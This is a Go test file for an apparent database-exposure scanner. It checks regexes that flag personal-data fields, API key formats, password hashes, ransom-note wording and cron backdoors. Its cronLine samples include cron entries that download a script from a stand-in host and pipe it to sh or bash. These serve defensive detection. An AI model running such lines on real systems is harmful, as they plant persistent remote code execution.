package assess

import (
	"fmt"
	"strings"
	"testing"

	"github.com/gownscan/gown/internal/lazyre"
	"github.com/gownscan/gown/internal/lazyre/lazyretest"
)

// ex is what one pattern must (tp) and must not (fp) match.
type ex struct{ tp, fp []string }

// fieldExamples are the examples of each row of fieldRules, in order, for
// each pattern the row has, written as render writes words
// ("_user_phone_"). A row's name says the field may hold the class, its
// not vetoes it, its ctx is the parent or record it must sit in.
var fieldExamples = []struct {
	class          string
	name, not, ctx ex
}{
	{class: ClassEmail},
	{class: ClassPhone, not: ex{[]string{"_price_", "_utc_offset_"}, []string{"_phone_", "_prices_"}}},
	{class: ClassPhone,
		name: ex{[]string{"_phone_", "_user_mobile_number_", "_whatsapp_"}, []string{"_iphone_", "_headphones_", "_telemetry_"}},
		not:  ex{[]string{"_phone_model_", "_country_code_"}, []string{"_phone_", "_phone_number_"}}},
	{class: ClassPasswordHash},
	{class: ClassPasswordHash, name: passwordNames, not: passwordNot},
	{class: ClassPassword, name: passwordNames, not: passwordNot},
	{class: ClassCard, not: ex{[]string{"_order_id_", "_checksum_"}, []string{"_card_number_", "_pan_"}}},
	{class: ClassCard,
		name: ex{[]string{"_card_number_", "_cc_", "_credit_card_"}, []string{"_discard_", "_scarce_", "_panel_"}},
		not:  ex{[]string{"_card_last4_", "_card_brand_"}, []string{"_card_number_", "_card_"}}},
	{class: ClassIBAN},
	{class: ClassGovID, not: ex{[]string{"_phone_", "_birth_date_"}, []string{"_ssn_", "_tax_id_"}}},
	{class: ClassGovID,
		name: ex{[]string{"_ssn_", "_user_tax_id_", "_passport_number_", "_social_security_number_"}, []string{"_lesson_", "_tint_", "_passports_"}},
		not:  ex{[]string{"_passport_country_", "_id_card_image_"}, []string{"_passport_number_", "_ssn_"}}},
	{class: ClassAccessToken},
	{class: ClassAccessToken,
		name: ex{[]string{"_access_token_", "_session_id_", "_jwt_"}, []string{"_tokenizer_", "_sidebar_", "_session_"}},
		not:  ex{[]string{"_next_page_token_", "_token_type_", "_csrf_token_"}, []string{"_access_token_", "_refresh_token_"}}},
	{class: ClassAPIKey},
	{class: ClassAPIKey,
		name: ex{[]string{"_api_key_", "_client_secret_", "_stripe_secret_"}, []string{"_secretary_", "_keyboard_", "_api_"}},
		not:  ex{[]string{"_public_key_", "_api_key_name_"}, []string{"_api_key_", "_secret_"}}},
	{class: ClassDeviceID, name: ex{[]string{"_imei_", "_device_imeisv_"}, []string{"_imei2_", "_time_", "_meidx_"}}},
	{class: ClassDeviceID, name: ex{[]string{"_idfa_", "_device_id_", "_android_id_"}, []string{"_id_", "_device_", "_idea_"}}},
	{class: ClassDeviceID, name: ex{[]string{"_fcm_token_", "_push_token_", "_apns_"}, []string{"_push_", "_token_", "_registration_date_"}}},
	{class: ClassIP, name: ex{[]string{"_ip_", "_remote_addr_", "_last_login_ip_"}, []string{"_zip_", "_ipad_", "_tip_"}}},
	{class: ClassIP, not: ex{[]string{"_version_", "_min_sdk_"}, []string{"_ip_", "_address_"}}},
	{class: ClassName, name: ex{[]string{"_first_name_", "_customer_name_", "_surname_"}, []string{"_name_", "_file_name_", "_username_"}}},
	{class: ClassName,
		name: ex{[]string{"_name_"}, []string{"_names_", "_user_name_", "_name_first_"}},
		ctx:  ex{[]string{"_users_", "_customer_", "_user_profile_"}, []string{"_products_", "_usernames_"}}},
	{class: ClassPostalAddress,
		name: ex{[]string{"_address_", "_shipping_address_", "_street_"}, []string{"_addressee_", "_streets_", "_residency_"}},
		not:  ex{[]string{"_email_address_", "_ip_address_", "_mac_"}, []string{"_address_", "_street_address_"}}},
	{class: ClassPostalAddress,
		name: ex{[]string{"_zip_", "_postal_code_", "_plz_"}, []string{"_zipper_", "_gzip_"}},
		not:  ex{[]string{"_zip_file_", "_gzip_"}, []string{"_zip_", "_zip_code_"}}},
	{class: ClassGeo},
	{class: ClassGeo, name: geoContexts},
	{class: ClassGeo, name: ex{[]string{"_geohash_", "_geo_hash_"}, []string{"_geo_", "_hash_"}}},
}

var (
	passwordNames = ex{[]string{"_password_", "_user_pwd_", "_passphrase_"}, []string{"_passport_", "_bypassed_", "_compass_"}}
	passwordNot   = ex{[]string{"_password_reset_", "_last_password_", "_boarding_pass_"}, []string{"_password_", "_user_password_", "_password_hash_"}}
	geoContexts   = ex{[]string{"_location_", "_home_location_", "_lat_lng_"}, []string{"_locale_", "_pinned_", "_geology_"}}
)

// cueExamples are the examples of nameCues (words, as render writes them),
// lossWords and payWords (text), in order.
var cueExamples = map[string][]ex{
	"nameCues": {
		{[]string{"_read_me_", "_readme_"}, []string{"_read_", "_readmes_"}},
		{[]string{"_please_read_"}, []string{"_please_", "_read_please_"}},
		{[]string{"_warning_"}, []string{"_warning_logs_", "_warnings_"}},
		{[]string{"_how_to_recover_", "_retrieve_"}, []string{"_recovered_", "_cover_"}},
		{[]string{"_how_to_restore_", "_howto_get_"}, []string{"_how_to_", "_how_to_cook_"}},
		{[]string{"_your_data_", "_your_files_"}, []string{"_your_", "_data_"}},
		{[]string{"_bitcoin_", "_pay_", "_hacked_"}, []string{"_payment_", "_paypal_"}},
		{[]string{"_backup_", "_restore_"}, []string{"_back_", "_backend_"}},
		{[]string{"_attention_", "_important_"}, []string{"_warn_", "_note_"}},
		{[]string{"_contact_", "_email_"}, []string{"_contacts_", "_gmail_"}},
	},
	"lossWords": {
		{[]string{"to RECOVER your data", "Retrieve"}, []string{"recovered", "discover"}},
		{[]string{"Restore", "restored"}, []string{"restores", "restoring"}},
		{[]string{"we have backed up", "a backup"}, []string{"backend", "backing"}},
		{[]string{"all tables were dropped", "DELETED"}, []string{"delete", "removed"}},
		{[]string{"will be leaked", "we sell"}, []string{"leakage", "seller"}},
		{[]string{"downloaded", "stolen"}, []string{"download", "dump"}},
		{[]string{"encrypted", "to decrypt"}, []string{"encrypt", "decrypted", "encryption"}},
		{[]string{"your database", "YOUR FILES"}, []string{"your", "our data"}},
		{[]string{"GDPR", "the data protection authority"}, []string{"gdprx", "data protection"}},
	},
	"payWords": {
		{[]string{"pay", "Payment"}, []string{"payload", "repay"}},
		{[]string{"BTC", "monero"}, []string{"bitcoins", "btcx"}},
		{[]string{"within 48 hours", "2 days to pay"}, []string{"48 hours", "within hours"}},
	},
}

// apiKeyExamples are the examples of each of apiKeyFormats, by name.
var apiKeyExamples = map[string]ex{
	"aws-access-key-id": {[]string{"AKIAIOSFODNN7EXAMPLE", "id=ASIAIOSFODNN7EXAMPLE;"}, []string{"AKIAIOSFODNN7EXAMPL", "AKIAIOSFODNN1EXAMPLE"}},
	"google-api-key":    {[]string{"AIza" + strings.Repeat("Sy0_-", 6) + "abcde"}, []string{"AIza" + strings.Repeat("Sy0_-", 6) + "abcd", "AIza short"}},
	"github-token": {[]string{"ghp_" + strings.Repeat("a1B2", 9), "github_pat_" + strings.Repeat("a1_B2", 16) + "xy"},
		[]string{"ghx_" + strings.Repeat("a1B2", 9), "ghp_" + strings.Repeat("a1B2", 8)}},
	"gitlab-token":      {[]string{"glpat-" + strings.Repeat("a1B_-", 3) + "a1B2x"}, []string{"glpat-" + strings.Repeat("a1B_", 4), "glpat_" + strings.Repeat("a1B_-", 3) + "a1B2x"}},
	"slack-token":       {[]string{"xoxb-123456789012-abcdef"}, []string{"xoxz-123456789012", "xoxb-123"}},
	"stripe-secret-key": {[]string{"sk_live_" + strings.Repeat("a1B2", 6), "rk_test_" + strings.Repeat("Z9", 8)}, []string{"pk_live_" + strings.Repeat("a1B2", 6), "sk_live_short"}},
	"sendgrid-api-key": {[]string{"SG." + strings.Repeat("a1_-B2", 3) + "abcd." + strings.Repeat("a1_-B2", 7) + "x"},
		[]string{"SG.short.x", "SG." + strings.Repeat("a1_-B2", 3) + "abcd.short"}},
	"twilio-api-key":  {[]string{"SK" + strings.Repeat("0123456789abcdef", 2)}, []string{"SK" + strings.Repeat("0123456789ABCDEF", 2), "SK0123"}},
	"mailgun-api-key": {[]string{"key-" + strings.Repeat("0123456789abcdef", 2)}, []string{"key-short", "monkey-" + strings.Repeat("0123456789abcdef", 2)}},
	"openai-api-key": {[]string{"sk-proj-" + strings.Repeat("a1B2_-", 7), "sk-" + strings.Repeat("a1B2", 5) + "T3BlbkFJ" + strings.Repeat("a1B2", 5)},
		[]string{"sk-short", "sk-proj-short"}},
	"private-key": {[]string{"-----BEGIN RSA PRIVATE KEY-----", "x\n-----BEGIN PRIVATE KEY-----\nMII"}, []string{"-----BEGIN PUBLIC KEY-----", "-----BEGIN CERTIFICATE-----"}},
}

// TestPatternsCompile compiles every pattern of the package, which the
// package itself only does on first use, and checks each against what it
// must and must not match: a bad or broken one fails here by name, and a
// new one without examples fails too.
func TestPatternsCompile(t *testing.T) {
	cases := []lazyretest.Case{
		{Name: "btcCandidate", Re: btcCandidate,
			TP: []string{"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "send to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq now"},
			FP: []string{"10000000000000000000000000000", "bc1short", "x1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"}},
		{Name: "latWords", Re: latWords, TP: []string{"_lat_", "_home_latitude_"}, FP: []string{"_lat_lng_", "_flat_", "_latency_"}},
		{Name: "lonWords", Re: lonWords, TP: []string{"_lon_", "_lng_", "_home_longitude_"}, FP: []string{"_along_", "_lonely_", "_lon_lat_"}},
		{Name: "geoCtxRe", Re: geoCtxRe, TP: geoContexts.tp, FP: geoContexts.fp},
		{Name: "ssnRe", Re: ssnRe, TP: []string{"123-45-6789"}, FP: []string{"123456789", "123-45-678", "1234-56-789"}},
		{Name: "cpfRe", Re: cpfRe, TP: []string{"123.456.789-09"}, FP: []string{"123456789-09", "123.456.789.09"}},
		{Name: "uuidRe", Re: uuidRe, TP: []string{"123e4567-e89b-12d3-a456-426614174000"},
			FP: []string{"123e4567e89b12d3a456426614174000", "123e4567-e89b-12d3-a456-42661417400g"}},
		{Name: "jwtRe", Re: jwtRe, TP: []string{"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "eyJhbGciOiJub25lIn0.eyJ4IjoxfQ."},
			FP: []string{"eyJhbGciOiJIUzI1NiJ9", "eyXhbGciOiJIUzI1NiJ9.x.y"}},
		{Name: "cryptHash", Re: cryptHash,
			TP: []string{"$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW",
				"$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA",
				"$6$saltsalt$qFmFH.bQmmtXzyBY0s9v7Oicd2z4XSIecDzlB5KiA2/jctKu9YterLp8wwnSq.qc.eoxqOmSuNp2xS0ktL3nh/",
				"{SSHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g=", "pbkdf2_sha256$260000$c2FsdA$aGFzaGhhc2g=",
				"sha1$abc$" + strings.Repeat("0123456789", 4)},
			FP: []string{"hunter2", "$2b$12$short", "{SSHA}short", "bcrypt$short", "x $2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW"}},
		{Name: "emailRe", Re: emailRe, TP: []string{"alice@example.com", "o'brien+x@mail.example.co.uk"},
			FP: []string{"alice@localhost", "mail alice@example.com", "a@b.c"}},
		{Name: "emailInText", Re: emailInText, TP: []string{"write to alice@example.com today"}, FP: []string{"alice@localhost", "@example.com"}},
		{Name: "latLonText", Re: latLonText, TP: []string{"52.520008, 13.404954", "(52.52 -13.40)"}, FP: []string{"52, 13", "52.52;13.40", "123.4, 13.4"}},
		{Name: "wktPoint", Re: wktPoint, TP: []string{"POINT(13.4 52.5)", "SRID=4326;point Z (13.4 52.5 10)"},
			FP: []string{"POINTS(1 2)", "LINESTRING(1 2, 3 4)", "POINT EMPTY"}},
		{Name: "meowName", Re: meowName, TP: []string{"a1b2c3d4e5-meow", "ABCDEF_meow"}, FP: []string{"meow", "abc-meow", "abcdef-meow-x"}},
		{Name: "cronLine", Re: cronLine,
			TP: []string{"*/5 * * * * curl -s http://x/y.sh | sh", "# m h dom mon dow\n@reboot root wget http://x -O- | bash"},
			FP: []string{"*/5 * * * * /usr/bin/backup", "curl http://x | sh", "# */5 * * * * curl x"}},
		{Name: "sshKey", Re: sshKey,
			TP: []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host"},
			FP: []string{"ssh-rsa", "ssh-ed25519 BBBBC3NzaC1lZDI1NTE5AAAAIOMqqnk", "ssh-foo AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnk"}},
	}

	var allKeys ex
	for _, f := range apiKeyFormats {
		e, ok := apiKeyExamples[f.name]
		if !ok {
			t.Errorf("apiKeyFormats %s: no examples", f.name)
		}
		cases = append(cases, lazyretest.Case{Name: "apiKeyFormats " + f.name, Re: f.re, TP: e.tp, FP: e.fp})
		allKeys.tp = append(allKeys.tp, e.tp...)
		allKeys.fp = append(allKeys.fp, e.fp...)
	}
	cases = append(cases, lazyretest.Case{Name: "anyAPIKey", Re: anyAPIKey, TP: allKeys.tp, FP: allKeys.fp})

	for list, cs := range map[string][]cue{"nameCues": nameCues, "lossWords": lossWords, "payWords": payWords} {
		exs := cueExamples[list]
		if len(exs) != len(cs) {
			t.Errorf("%s has %d cues, examples for %d: each needs its own, in order", list, len(cs), len(exs))
			continue
		}
		for i, c := range cs {
			cases = append(cases, lazyretest.Case{Name: fmt.Sprintf("%s[%d] (%s)", list, i, c.label), Re: c.re, TP: exs[i].tp, FP: exs[i].fp})
		}
	}

	rules := compiledRules() // makes the field rules' patterns
	if len(fieldExamples) != len(rules) {
		t.Fatalf("fieldRules has %d rows, examples for %d: each needs its own, in order", len(rules), len(fieldExamples))
	}
	for i, r := range rules {
		fe := fieldExamples[i]
		if fe.class != r.class {
			t.Fatalf("fieldRules[%d] is %s, its examples are for %s", i, r.class, fe.class)
		}
		for _, p := range []struct {
			part string
			re   *lazyre.Regexp
			ex   ex
		}{{"name", r.name, fe.name}, {"not", r.not, fe.not}, {"ctx", r.ctx, fe.ctx}} {
			name := fmt.Sprintf("fieldRules[%d] (%s) %s", i, r.class, p.part)
			switch {
			case p.re != nil:
				cases = append(cases, lazyretest.Case{Name: name, Re: p.re, TP: p.ex.tp, FP: p.ex.fp})
			case p.ex.tp != nil || p.ex.fp != nil:
				t.Errorf("%s: examples for a pattern the row does not have", name)
			}
		}
	}
	lazyretest.Check(t, "github.com/gownscan/gown/assess", cases)
}
